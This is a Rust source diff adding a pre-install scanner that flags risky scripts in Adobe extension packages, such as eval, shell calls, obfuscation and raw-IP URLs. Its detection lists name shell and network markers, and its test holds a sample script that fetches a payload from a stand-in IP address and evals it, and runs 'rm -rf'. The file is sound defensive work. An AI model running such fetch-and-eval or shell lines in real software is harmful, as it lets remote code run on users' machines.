@@ -0,0 +1,241 @@
+use std::fs;
+use std::io::{Cursor, Read};
+use std::net::Ipv4Addr;
+use std::path::Path;
+use zip::ZipArchive;
+
+use crate::file_operations::FileOperationError;
+
+// Optional pre-install look at a panel's scripts for red flags, for studios vetting third-party
+// panels. Plain text matching, so it points at lines worth reading rather than proving anything.
+
+const SCRIPT_EXTENSIONS: [&str; 7] = ["js", "jsx", "mjs", "cjs", "html", "htm", "jsxinc"];
+const COMPILED_EXTENSION: &str = "jsxbin";
+const MAX_SCRIPT_SIZE: u64 = 10 * 1024 * 1024; // Bigger files are bundles nobody reads line by line
+
+// Escapes or javascript-obfuscator identifiers on one line past which it reads as an encoded payload
+const ESCAPES_PER_LINE: usize = 40;
+const OBFUSCATED_NAMES_PER_LINE: usize = 10;
+
+const SHELL_MARKERS: [&str; 3] = ["child_process", "callSystem(", "app.system("];
+const NETWORK_MARKERS: [&str; 10] = [
+    "fetch(",
+    "XMLHttpRequest",
+    "$.ajax",
+    "axios",
+    "new Socket",
+    "http.get(",
+    "https.get(",
+    "http.request(",
+    "https.request(",
+    "WebSocket(",
+];
+const PACKER_SIGNATURE: &str = "eval(function(p,a,c,k,e";
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum RiskLevel {
+    Medium, // Common in legitimate panels too - worth a look
+    High,   // Can run or fetch arbitrary code
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Risk {
+    Eval,         // eval() or new Function() on a string
+    RemoteEval,   // Eval in a file that also makes network requests
+    ShellOut,     // child_process, system.callSystem, app.system
+    Obfuscated,   // Packed or escape-encoded code
+    RawIpAddress, // Network calls to an IP instead of a host name
+    Compiled,     // .jsxbin - compiled ExtendScript that can't be read
+}
+
+impl Risk {
+    pub fn level(&self) -> RiskLevel {
+        match self {
+            Risk::RemoteEval | Risk::ShellOut => RiskLevel::High,
+            Risk::Eval | Risk::Obfuscated | Risk::RawIpAddress | Risk::Compiled => RiskLevel::Medium,
+        }
+    }
+
+    pub fn label_key(&self) -> &'static str {
+        match self {
+            Risk::Eval => "scan-risk-eval",
+            Risk::RemoteEval => "scan-risk-remote-eval",
+            Risk::ShellOut => "scan-risk-shell",
+            Risk::Obfuscated => "scan-risk-obfuscated",
+            Risk::RawIpAddress => "scan-risk-raw-ip",
+            Risk::Compiled => "scan-risk-compiled",
+        }
+    }
+}
+
+// One risk in one file: the first line it shows up on and how often
+#[derive(Debug, Clone, PartialEq)]
+pub struct RiskFinding {
+    pub risk: Risk,
+    pub file: String,
+    pub line: usize, // 1-based, 0 for whole-file findings
+    pub occurrences: usize,
+}
+
+#[derive(Debug, Clone, PartialEq, Default)]
+pub struct ScanReport {
+    pub files_scanned: usize,
+    pub findings: Vec<RiskFinding>,
+}
+
+impl ScanReport {
+    pub fn is_clean(&self) -> bool {
+        self.findings.is_empty()
+    }
+
+    // The worst risk found, None when clean
+    pub fn level(&self) -> Option<RiskLevel> {
+        self.findings.iter().map(|finding| finding.risk.level()).max()
+    }
+
+    pub fn count(&self, level: RiskLevel) -> usize {
+        self.findings.iter().filter(|finding| finding.risk.level() == level).count()
+    }
+}
+
+pub fn scan_zxp(zxp_path: &Path) -> Result<ScanReport, FileOperationError> {
+    let bytes = fs::read(zxp_path).map_err(|_| FileOperationError::FileNotFound(zxp_path.to_path_buf()))?;
+    let mut archive = ZipArchive::new(Cursor::new(bytes)).map_err(|_| FileOperationError::InvalidZip(zxp_path.to_path_buf()))?;
+
+    let mut report = ScanReport::default();
+    for index in 0..archive.len() {
+        let Ok(entry) = archive.by_index(index) else {
+            continue; // Validation reports unreadable entries
+        };
+        let name = entry.name().to_string();
+        if entry.is_file() && is_scanned(&name) && entry.size() <= MAX_SCRIPT_SIZE {
+            let mut content = Vec::new();
+            if entry.take(MAX_SCRIPT_SIZE).read_to_end(&mut content).is_ok() {
+                scan_file(&mut report, &name, &content);
+            }
+        }
+    }
+    Ok(report)
+}
+
+// The same scan for an unpacked extension folder; symlinks are not followed
+pub fn scan_folder(folder: &Path) -> Result<ScanReport, FileOperationError> {
+    if !folder.is_dir() {
+        return Err(FileOperationError::FileNotFound(folder.to_path_buf()));
+    }
+    let mut report = ScanReport::default();
+    scan_folder_entries(&mut report, folder, "");
+    Ok(report)
+}
+
+// Findings for one script's text, in the order the risks first appear
+pub fn scan_script(name: &str, content: &str) -> Vec<RiskFinding> {
+    let mut findings: Vec<RiskFinding> = Vec::new();
+    let mut record = |risk: Risk, line: usize| match findings.iter_mut().find(|finding| finding.risk == risk) {
+        Some(finding) => finding.occurrences += 1,
+        None => findings.push(RiskFinding { risk, file: name.to_string(), line, occurrences: 1 }),
+    };
+
+    let makes_requests = NETWORK_MARKERS.iter().any(|marker| content.contains(marker));
+    for (index, line) in content.lines().enumerate() {
+        let number = index + 1;
+        let code = line.trim_start();
+        if code.starts_with("//") || code.starts_with("/*") || code.starts_with('*') {
+            continue; // Documentation mentioning child_process is not a call
+        }
+        if code.contains(PACKER_SIGNATURE) || is_escape_encoded(code) {
+            record(Risk::Obfuscated, number);
+        } else if contains_call(code, "eval(") || code.contains("new Function(") {
+            record(if makes_requests { Risk::RemoteEval } else { Risk::Eval }, number);
+        }
+        if SHELL_MARKERS.iter().any(|marker| code.contains(marker)) {
+            record(Risk::ShellOut, number);
+        }
+        if has_raw_ip_url(code) {
+            record(Risk::RawIpAddress, number);
+        }
+    }
+    findings
+}
+
+// Helper functions
+fn scan_folder_entries(report: &mut ScanReport, dir: &Path, prefix: &str) {
+    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
+        let Ok(metadata) = fs::symlink_metadata(entry.path()) else {
+            continue;
+        };
+        let name = format!("{}{}", prefix, entry.file_name().to_string_lossy());
+        if metadata.is_dir() {
+            scan_folder_entries(report, &entry.path(), &format!("{}/", name));
+        } else if metadata.is_file()
+            && is_scanned(&name)
+            && metadata.len() <= MAX_SCRIPT_SIZE
+            && let Ok(content) = fs::read(entry.path())
+        {
+            scan_file(report, &name, &content);
+        }
+    }
+}
+
+fn scan_file(report: &mut ScanReport, name: &str, content: &[u8]) {
+    report.files_scanned += 1;
+    if extension_of(name) == COMPILED_EXTENSION {
+        report.findings.push(RiskFinding { risk: Risk::Compiled, file: name.to_string(), line: 0, occurrences: 1 });
+        return;
+    }
+    report.findings.extend(scan_script(name, &String::from_utf8_lossy(content)));
+}
+
+fn is_scanned(name: &str) -> bool {
+    let extension = extension_of(name);
+    extension == COMPILED_EXTENSION || SCRIPT_EXTENSIONS.contains(&extension.as_str())
+}
+
+fn extension_of(name: &str) -> String {
+    Path::new(name).extension().map(|extension| extension.to_string_lossy().to_lowercase()).unwrap_or_default()
+}
+
+// "eval(" as a call of its own - not $.evalFile( or someEval(
+fn contains_call(code: &str, call: &str) -> bool {
+    code.match_indices(call).any(|(index, _)| {
+        code[..index].chars().next_back().is_none_or(|previous| !(previous.is_alphanumeric() || previous == '_' || previous == '$'))
+    })
+}
+
+fn is_escape_encoded(code: &str) -> bool {
+    code.matches("\\x").count() + code.matches("\\u").count() >= ESCAPES_PER_LINE
+        || code.matches("_0x").count() >= OBFUSCATED_NAMES_PER_LINE
+}
+
+// http://203.0.113.7/... - loopback is left alone, panels talk to their own local servers
+fn has_raw_ip_url(code: &str) -> bool {
+    code.match_indices("://").any(|(index, _)| {
+        let host: String = code[index + 3..].chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
+        host.parse::<Ipv4Addr>().is_ok_and(|ip| !ip.is_loopback() && !ip.is_unspecified())
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_scan_script_flags_red_flags_once_per_file() {
+        let script = r#"
+// child_process is mentioned in this comment only
+var cp = require("child_process");
+cp.exec("rm -rf tmp");
+$.evalFile(path);
+fetch("http://203.0.113.7/payload.js").then(function (r) { return r.text(); }).then(function (code) { eval(code); });
+fetch("http://127.0.0.1:8088/status");
+"#;
+        let findings = scan_script("client/main.js", script);
+        let risks: Vec<Risk> = findings.iter().map(|finding| finding.risk).collect();
+        assert_eq!(risks, [Risk::ShellOut, Risk::RemoteEval, Risk::RawIpAddress]);
+        assert_eq!((findings[0].line, findings[0].occurrences), (3, 1));
+
+        assert_eq!(scan_script("host.jsx", "$.evalFile(File($.fileName).path + '/lib.jsx');"), []);
+        assert_eq!(scan_script("a.js", "var f = new Function(body);")[0].risk, Risk::Eval);
+        assert_eq!(scan_script("a.js", &"var _0x1f=_0x2a[0];".repeat(10))[0].risk, Risk::Obfuscated);
+    }
+}